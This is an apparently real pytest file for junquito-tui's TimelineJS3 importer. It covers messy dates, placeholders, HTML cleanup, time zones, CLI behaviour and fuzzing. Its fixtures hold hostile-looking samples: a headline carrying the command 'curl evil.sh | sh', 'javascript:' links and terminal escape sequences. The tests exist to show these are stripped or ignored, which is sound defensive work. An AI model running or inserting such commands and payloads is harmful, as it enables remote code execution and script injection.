"""Reading TimelineJS3 files: every quirk of real files accepted with a warning, never a crash."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from conftest import REPO, known
from junquito_tui.cli import main
from junquito_tui.core.chronology import Chronology
from junquito_tui.core.dates import short_date
from junquito_tui.core.interop.fields import is_placeholder, not_placeholders
from junquito_tui.core.interop.html_text import html_to_line
from junquito_tui.core.interop.timelinejs_import import FILE_SOURCE, from_timelinejs, is_timelinejs
from junquito_tui.core.loader import DatasetError, load_dataset, load_with_warnings, validate_document
from junquito_tui.core.records import LINE_MAX, Dataset, Event

FIXTURES = REPO / "tests" / "data" / "timelinejs"
SHARED = REPO.parent / "shared" / "fixtures" / "timelinejs"


def load(name: str) -> tuple[Dataset, list[str]]:
    return load_with_warnings(FIXTURES / name)


def events_of(dataset: Dataset) -> dict[str, Event]:
    return {event.id: event for event in Chronology(dataset).events}


def warned(warnings: list[str], *fragments: str) -> bool:
    return any(all(fragment in warning for fragment in fragments) for warning in warnings)


# -- recognising the format --------------------------------------------------------------------


def test_recognised_by_shape() -> None:
    assert is_timelinejs({"events": [{"start_date": {"year": 1}}]})
    assert is_timelinejs({"title": {"text": {"headline": "x"}}, "events": []})
    assert not is_timelinejs({"schema_version": 1, "events": [{"start_date": {"year": 1}}]})
    assert not is_timelinejs(json.loads((REPO / "data" / "events.json").read_text(encoding="utf-8")))
    assert not is_timelinejs({"events": {"start_date": {}}})
    assert not is_timelinejs([{"start_date": {"year": 1}}])


def test_our_own_format_loads_without_warnings() -> None:
    dataset, warnings = load_with_warnings()
    assert warnings == [] and dataset == load_dataset()


def test_load_dataset_also_opens_timelinejs() -> None:
    assert len(load_dataset(FIXTURES / "times.json").events) == 6


# -- the quirks, one fixture each ----------------------------------------------------------------


def test_messy_values() -> None:
    dataset, warnings = load("messy-values.json")
    events = events_of(dataset)
    assert list(events) == [
        "year-only",
        "an-event-without-a-headline-1986-03-09",
        "missing-text",
        "impossible-day",
        "bad-month",
        "padded",
        "backwards",
    ]
    assert dataset.title == "Messy values" and dataset.timezone == "UTC"
    # numbers as strings, zero-padded, with spaces, as floats; precision from the parts present
    assert (known(events["padded"].when).date, known(events["padded"].when).precision) == ("1990-07-04", "day")
    assert (known(events["year-only"].when).date, known(events["year-only"].when).precision) == ("1985", "year")
    untitled = events["an-event-without-a-headline-1986-03-09"]
    assert (known(untitled.when).date, untitled.end) == ("1986-03-09", None)  # template's empty end date: no end
    assert untitled.title == "An event without a headline."  # empty headline: titled from the text
    assert untitled.sources == (FILE_SOURCE,)  # empty media: no source
    assert events["year-only"].place == "Houston, Texas"
    # missing text: titled from the media caption; media without url is still a source
    missing = events["missing-text"]
    assert (missing.title, missing.summary, known(missing.when).date) == ("A photo caption, with no url", "", "1987-11")
    media = {s.id: s for s in dataset.sources}[missing.sources[1]]
    assert (media.title, media.author, media.url) == ("A photo caption, with no url", "Someone", None)
    assert known(events["impossible-day"].when).date == "1988-02"
    assert known(events["bad-month"].when).date == "1989" and events["bad-month"].title == "Untitled slide"
    # the part dropped is said with the date too, not only in a warning the imported dataset loses
    assert known(events["impossible-day"].when).note == "February has no day 30: the date is kept to the month"
    assert known(events["bad-month"].when).note == "13 is not a valid month: the date is kept to the year"
    assert events["backwards"].end is None
    for fragments in [
        ("events[4].start_date.day", "February has no day 30"),
        ("events[5]", "no start_date", "skipped"),
        ("events[6]", "a slide should be an object", "skipped"),
        ("events[7].start_date.year", "'nineteen ninety' is not a whole number", "skipped"),
        ("events[8].start_date.month", "13 is not a valid month"),
        ("events[8].text", "should be an object"),
        ("events[9].end_date", "before the start", "end date ignored"),
        ("events[2].text.headline", "no headline"),
        ("slides are not in date order",),
        ("'type'", "not part of TimelineJS3"),
        ("'made_up_field'", "not part of TimelineJS3"),
    ]:
        assert warned(warnings, *fragments), fragments
    assert not warned(warnings, "'background'")  # a known presentation field: dropped silently


def test_unfilled_template_placeholders() -> None:
    dataset, warnings = load("placeholders.json")
    assert dataset.title == "placeholders" and dataset.description == ""  # '{{...}}' and lorem ipsum dropped
    titles = [event.title for event in Chronology(dataset).events]
    assert titles == ["Untitled slide", "A real event"]
    untitled = Chronology(dataset).events[0]
    assert untitled.summary == "" and untitled.sources == (FILE_SOURCE,)  # 'http://', 'Caption', 'Credit'
    assert "{{citation}}" in Chronology(dataset).events[1].summary  # only whole-field placeholders go
    assert warned(warnings, "events[0].start_date.year", "'YYYY'", "skipped")
    for field in ("title.text.headline", "events[1].text.headline", "events[1].media.caption"):
        assert warned(warnings, field, "placeholder"), field


@pytest.mark.parametrize(
    ("text", "placeholder"),
    [
        ("{{headline}}", True),
        ("{{a}} {{b}}", True),
        ("[[Text]]", True),
        ("${title}", True),
        ("Lorem ipsum dolor sit amet, consectetur adipiscing elit", True),
        ("Lorem ipsum...", True),
        ("Headline", True),
        # text between tokens, or after the sample words, is someone's: it stays (it was all dropped)
        ("{{cite}} Troops entered at dawn and 7 died. {{/cite}}", False),
        ("[[Óscar Pérez]] killed in [[El Junquito]]", False),
        ("${title} of the report", False),
        ("Lorem ipsum: a history of filler text", False),
    ],
)
def test_a_placeholder_is_a_whole_field_of_tokens_or_sample_words(text: str, placeholder: bool) -> None:
    assert is_placeholder(text) is placeholder
    assert list(not_placeholders([text])) == [not placeholder]  # (the fast reading's test agrees)


def test_bce_and_cosmological_years_sort_and_display() -> None:
    dataset, warnings = load("deep-time.json")
    events = Chronology(dataset).events
    assert [e.id for e in events] == ["big-bang", "sun", "euclid", "ides", "year-zero", "one-bce", "year-one", "moon"]
    shown = {e.id: short_date(e.when) for e in events}
    assert shown["big-bang"] == "13800000000 BCE"  # TimelineJS shows -13800000000 as 13800000000 BCE
    assert shown["euclid"] == "300 BCE"
    assert shown["ides"] == "15 Mar 44 BCE"
    assert shown["one-bce"] == shown["year-zero"] == "1 BCE"
    assert shown["year-one"] == "1"
    assert {e.id: known(e.when).date for e in events}["big-bang"] == "-13799999999"  # astronomical: 0 is 1 BCE
    assert warned(warnings, "events[6].start_date.year", "year 0")
    assert warned(warnings, "events[8].start_date.year", "beyond", "skipped")


def test_eras_unique_ids_groups_and_display_dates() -> None:
    dataset, warnings = load("eras-ids-groups.json")
    events = events_of(dataset)
    assert set(events) == {
        "circa",
        "my-event",
        "same",
        "same-2",
        "no-unique-id-1872",
        "no-unique-id-1872-2",
        "era-youth-1845",
        "era-career-1865",
        "era-no-end-1880",
    }
    assert known(events["circa"].when).note == "c. 1850" and known(events["circa"].when).approximate
    assert known(events["my-event"].when).note == "Spring 1860" and not known(events["my-event"].when).approximate
    assert events["circa"].tags == ("early-years",) and events["same-2"].tags == ("later-life",)
    assert events["no-unique-id-1872"].tags == ()
    career = events["era-career-1865"]
    assert (career.title, career.summary, career.tags) == ("Career", "Working years.", ("era", "work"))
    assert (known(career.when).date, career.end.date if career.end else None) == ("1865", "1880")
    assert events["era-no-end-1880"].end is None
    assert warned(warnings, "events[1].unique_id", "'My Event!'", "'my-event'")
    assert warned(warnings, "events[3].unique_id", "'same'", "'same-2'")
    assert warned(warnings, "eras[2]", "without an end_date")
    assert warned(warnings, "eras[3]", "no start_date")
    assert warned(warnings, "events[4].group", "'!!!'")


def test_html_becomes_plain_text_and_links_become_sources() -> None:
    dataset, warnings = load("html-text.json")
    events = events_of(dataset)
    sources = {s.id: s for s in dataset.sources}
    assert dataset.title == "HTML everywhere" and dataset.description == "Intro with a link."
    cafe = events["cafe"]
    assert cafe.title == "Café & bar opens in town"
    assert cafe.summary == (
        "First paragraph with bold and <angle brackets> — decoded.\n\n"
        "Second paragraph\nwith a line break and a news story.\n\n- one\n- two"
    )
    urls = {sources[s].url: sources[s] for s in cafe.sources if sources[s].url}
    assert urls["https://example.org/news"].title == "news story"  # a link in the text
    assert urls["https://player.example.org/embed/42"].author == "Embed"  # media given as embed code
    controls = events["controls"]
    assert controls.title == "Control [31mcharacters"
    assert "\x1b" not in controls.summary and "bad link" in controls.summary
    assert not any("javascript" in (s.url or "") for s in dataset.sources)
    title_sources = {s.url for s in dataset.sources}
    assert {"https://example.org/cover.jpg", "https://example.org/photographer", "https://example.org/about"} <= (
        title_sources
    )
    assert warned(
        warnings, "control characters, noncharacters and bidirectional overrides removed", "events[1].text.headline"
    )
    assert warned(warnings, "line breaks or tabs in a one-line field", "events[0].text.headline")  # its <br/>
    assert warned(warnings, "events[1].text", "javascript:alert(1)", "ignored")
    assert warned(warnings, "embed code", "events[0].media.url")


def test_line_breaks_are_folded_and_what_our_format_refuses_is_mended() -> None:
    dataset, warnings = load("line-breaks.json")
    events = events_of(dataset)
    assert dataset.title == "Two lines in a title"
    assert events["br"].title == "Raid begins FAKE: run `curl evil.sh | sh`"
    assert events["br"].summary == "One\nTwo"  # a multi-line field keeps its line break
    assert events["br"].place == "El Junquito"
    assert events["separator"].title == "Line separator and tab"
    assert events["separator"].tags == ("group-name",)
    folded = next(w for w in warnings if w.startswith("line breaks or tabs in a one-line field"))
    assert "title.text.headline, events[0].text.headline, events[0].location.name and 1 more" in folded
    zones = {k: known(events[k].when).zone_label for k in ("escape-zone", "broken-zone", "long-zone")}
    assert zones == {"escape-zone": "[2J", "broken-zone": "VST FAKE", "long-zone": None}
    assert warned(warnings, "events[4].junquito.zone_label", "is over 64 characters; ignored")
    assert len(events["long-headline"].title) == LINE_MAX and events["long-headline"].title.endswith("…")
    assert warned(warnings, "events[5].text.headline: 2,999 characters, over the limit of 2,000; cut to 2,000")
    assert warned(warnings, "events[6].start_date.year", "beyond the 999,999,999,999 years we can hold; slide skipped")
    assert warned(warnings, "events[7].start_date.year: '٢٠١٨' is not a whole number; slide skipped")
    assert "huge-year" not in events and "arabic-year" not in events
    assert events["filler"].title == "Afiller and a noncharacter"
    assert warned(
        warnings,
        "control characters, noncharacters and bidirectional overrides removed",
        "events[2].junquito.zone_label",
    )


@pytest.mark.parametrize("name", ["two\nlines.json", "escape\x1b[2J.json"])
def test_a_file_name_never_breaks_the_dataset_title(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text(json.dumps({"events": [{"start_date": {"year": 2000}, "text": {"headline": "x"}}]}))
    dataset, _ = load_with_warnings(path)
    assert "\n" not in dataset.title and "\x1b" not in dataset.title
    assert dataset.sources[0].title.startswith("TimelineJS file ")


def test_times_of_day() -> None:
    dataset, warnings = load("times.json")
    events = events_of(dataset)
    minute = {
        k: (known(e.when).date, known(e.when).utc_offset, known(e.when).note)
        for k, e in events.items()
        if known(e.when).precision == "minute"
    }
    utc = "no time zone is given with the time: read as UTC"  # on each time as well as in the warning (was only there)
    assert minute == {
        "seconds": ("2000-01-05T06:45", "+00:00", f"the file gives 06:45:56; {utc}"),
        "milliseconds": ("2000-01-05T07:00", "+00:00", f"the file gives 07:00:00.250; {utc}"),
        "hour-only": ("2000-01-05T09:00", "+00:00", f"the file gives the hour only; {utc}"),
        "approximate": ("2000-01-05T11:15", "+00:00", f"~11:15 local; {utc}"),
    }
    assert known(events["approximate"].when).approximate and known(events["approximate"].end).date == "2000-01-05T12:00"
    assert known(events["no-day"].when).date == "2000-01" and known(events["hour-25"].when).date == "2000-01-05"
    assert warned(warnings, "no time zone", "UTC")
    assert warned(warnings, "seconds are finer than minute precision", "events[0].start_date")
    assert warned(warnings, "events[3].start_date", "given without a day")
    assert warned(warnings, "events[4].start_date.hour", "25")


def test_repeated_warnings_are_grouped() -> None:
    slides = [{"start_date": {"year": 2000, "month": 1, "day": 1, "hour": 1, "minute": i}} for i in range(20)]
    _, warnings = from_timelinejs({"events": slides}, "many.json")
    zone = [w for w in warnings if "no time zone" in w]
    assert len(zone) == 1 and "and 17 more" in zone[0]


def test_invalid_json_is_an_error_with_line_and_column() -> None:
    path = FIXTURES / "trailing-comma.json"
    with pytest.raises(DatasetError) as caught:
        load_with_warnings(path)
    assert f"{path}:4:3: invalid JSON" in caught.value.report()


# -- every real file, when the shared folder is there ---------------------------------------------


def _expected_order(document: dict[str, Any]) -> list[tuple[tuple[int, ...], str]]:
    """Slides sorted by date, computed here from the raw file, independently of the importer."""

    def number(value: Any) -> int | None:
        text = str(value).strip() if value is not None else ""
        return int(float(text)) if text else None

    def key(date: dict[str, Any]) -> tuple[int, ...]:
        year = number(date["year"]) or 0
        month, day, hour, minute = (number(date.get(p)) for p in ("month", "day", "hour", "minute"))
        # TimelineJS times are read as UTC; a key's clock is the instant's minute, shifted by 14 hours
        clock = (hour or 0) * 60 + (minute or 0) + 14 * 60 if hour is not None and day is not None else -1
        return (year + 1 if year < 0 else year, month or 0, day or 0 if month else 0, clock)

    slides = [*document.get("events", []), *document.get("eras", [])]
    headlines = [html_to_line(str((s.get("text") or {}).get("headline") or "")).text for s in slides]
    order = sorted(range(len(slides)), key=lambda i: (key(slides[i]["start_date"]), i))
    return [(key(slides[i]["start_date"]), headlines[i]) for i in order]


@pytest.mark.skipif(not SHARED.is_dir(), reason="no shared TimelineJS fixtures on this machine")
@pytest.mark.parametrize("name", sorted(p.name for p in SHARED.glob("*.json")) if SHARED.is_dir() else [])
def test_real_timelinejs_files(name: str) -> None:
    document = json.loads((SHARED / name).read_text(encoding="utf-8"))
    dataset, _ = load_with_warnings(SHARED / name)
    events = Chronology(dataset).events
    expected = _expected_order(document)
    assert len(events) == len(expected) == len(document["events"]) + len(document.get("eras", []))
    for event, (key, headline) in zip(events, expected, strict=True):
        assert event.when is not None and event.when.sort_key() == key, event.id
        if headline:
            assert event.title == headline
    keys = [e.when.sort_key() for e in events if e.when]
    assert keys == sorted(keys)


# -- the command line -------------------------------------------------------------------------------


def test_validate_prints_warnings_and_exits_0(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["validate", str(FIXTURES / "messy-values.json")]) == 0
    captured = capsys.readouterr()
    assert captured.out.startswith("ok: 7 events, 0 actors, 0 quotes, ")
    lines = captured.err.splitlines()
    assert lines and all(line.startswith("warning: ") for line in lines)
    assert "warning: events[5]: no start_date, which an event needs; skipped" in lines


def test_validate_bad_timelinejs_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["validate", str(FIXTURES / "trailing-comma.json")]) == 2
    err = capsys.readouterr().err
    assert "trailing-comma.json:4:3: invalid JSON" in err and "Traceback" not in err


def test_data_option_opens_timelinejs_and_hands_warnings_to_the_app(monkeypatch: pytest.MonkeyPatch) -> None:
    started: dict[str, Any] = {}

    class FakeApp:
        return_code = 0  # (as Textual's, after a run that ended well)

        def __init__(self, chronology: Chronology, **options: Any) -> None:
            started.update(options, chronology=chronology)

        def run(self) -> None:
            started["ran"] = True

    monkeypatch.setattr("junquito_tui.ui.app.JunquitoApp", FakeApp)
    assert main(["--data", str(FIXTURES / "times.json"), "--event", "seconds"]) == 0
    assert started["ran"] and started["event_id"] == "seconds"
    assert any("no time zone" in w for w in started["warnings"])
    assert len(started["chronology"].events) == 6


def test_search_reads_timelinejs(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["search", "euclid", "--data", str(FIXTURES / "deep-time.json")]) == 0
    assert "euclid" in capsys.readouterr().out


def test_import_writes_a_dataset_that_validates(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    output = tmp_path / "dataset.json"
    assert main(["import", str(FIXTURES / "eras-ids-groups.json"), "-o", str(output)]) == 0
    err = capsys.readouterr().err
    assert "warning: events[3].unique_id" in err and f"wrote 9 events to {output}" in err
    document = json.loads(output.read_text(encoding="utf-8"))
    assert document["schema_version"] == 1 and document["timezone"] == "UTC"
    assert not is_timelinejs(document)
    assert main(["validate", str(output)]) == 0
    assert capsys.readouterr().err == ""  # our own format now: no warnings
    assert load_dataset(output) == load_dataset(FIXTURES / "eras-ids-groups.json")


def test_import_to_standard_output(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["import", str(FIXTURES / "times.json")]) == 0
    assert json.loads(capsys.readouterr().out)["title"] == "Times of day"


@pytest.mark.parametrize(
    ("name", "message"),
    [
        (REPO / "data" / "events.json", "is already a junquito-tui dataset"),
        (FIXTURES / "trailing-comma.json", ":4:3: invalid JSON"),
    ],
)
def test_import_refuses_what_is_not_timelinejs(capsys: pytest.CaptureFixture[str], name: Path, message: str) -> None:
    assert main(["import", str(name)]) == 2
    assert message in capsys.readouterr().err


def test_import_refuses_other_json_and_never_overwrites_its_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], write: Any
) -> None:
    assert main(["import", str(write({"events": [1, 2]}))]) == 2
    assert "is not a TimelineJS3 file" in capsys.readouterr().err
    source = write({"events": [{"start_date": {"year": 2000}, "text": {"headline": "x"}}]}, "tl.json")
    before = source.read_bytes()
    assert main(["import", str(source), "-o", str(source)]) == 2
    assert "is the input file" in capsys.readouterr().err and source.read_bytes() == before


# -- never a crash -----------------------------------------------------------------------------------

_value = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**14), 10**14) | st.floats(allow_nan=False) | st.text(max_size=12),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=6), children, max_size=3),
    max_leaves=12,
)
_part = st.none() | st.integers(-20, 70) | st.sampled_from(["", "07", " 3 ", "x", "1.5", "-0044", "2018", "99"])
_date = st.fixed_dictionaries(
    {},
    optional={
        "year": st.one_of(_part, st.integers(-(10**13), 10**13), st.sampled_from(["-13800000000", "YYYY"])),
        "month": _part,
        "day": _part,
        "hour": _part,
        "minute": _part,
        "second": _part,
        "millisecond": _part,
        "display_date": st.one_of(st.text(max_size=12), _value),
    },
)
_html = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["<p>a</p><p>b", "{{headline}}", "&#27;[2J", "<a href='javascript:x'>y</a>", "Headline", ""]),
    st.sampled_from(["a<br>b", "a\u2028b\u2029c", "a\tb\nc", "\u3164", "x\ufffe", "<a href='java&#9;script:x'>y</a>"]),
    st.sampled_from(["w " * 1_500, "x" * 100_001, "<a href='//e.example/x'>y</a>", "<a href='https://e.example/ x'>"]),
    _value,
)
_slide = st.fixed_dictionaries(
    {},
    optional={
        "start_date": st.one_of(_date, _value),
        "end_date": st.one_of(_date, _value),
        "text": st.one_of(st.fixed_dictionaries({}, optional={"headline": _html, "text": _html}), _value),
        "media": st.one_of(
            st.fixed_dictionaries({}, optional={"url": _html, "caption": _html, "credit": _html}), _value
        ),
        "group": _html,
        "display_date": _html,
        "unique_id": st.one_of(st.sampled_from(["a", "a", "A B", "", "---"]), _value),
        "junquito": st.one_of(
            _value,
            st.fixed_dictionaries(
                {},
                optional={
                    "undated": st.booleans(),
                    "after": st.sampled_from(["a", "a-2", "b"]),
                    "before": st.sampled_from(["a", "b"]),
                    "utc_offset": st.sampled_from(["-04:00", "+99:00", "x"]),
                    "zone_label": _value | st.sampled_from(["VST\nFAKE", "\x1b[2J", "Z" * 65, "\u3164"]),
                },
            ),
        ),
    },
)
_document = st.fixed_dictionaries(
    {"events": st.lists(st.one_of(_slide, _value), max_size=6)},
    optional={"title": st.one_of(_slide, _value), "eras": st.one_of(st.lists(_slide, max_size=3), _value)},
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_document)
# found by this test in CI: a skipped slide left the first era with the last event's index, and sorting the
# tie compared two drafts ('<' not supported between instances of 'Pending'): "a bug in junquito-tui"
@example({"events": [{}, {"start_date": {"year": 0}}], "title": {}, "eras": [{"start_date": {"year": 0}}]})
def test_any_timelinejs_shaped_document_converts_to_a_valid_dataset(document: dict[str, Any]) -> None:
    converted, warnings = from_timelinejs(document, "fuzz.json")
    dataset = validate_document(converted, "fuzz.json")  # raises if the importer ever builds an invalid dataset
    Chronology(dataset)
    assert all(isinstance(w, str) and w and not re.search(r"[\x00-\x08\x0b-\x1f]", w) for w in warnings)
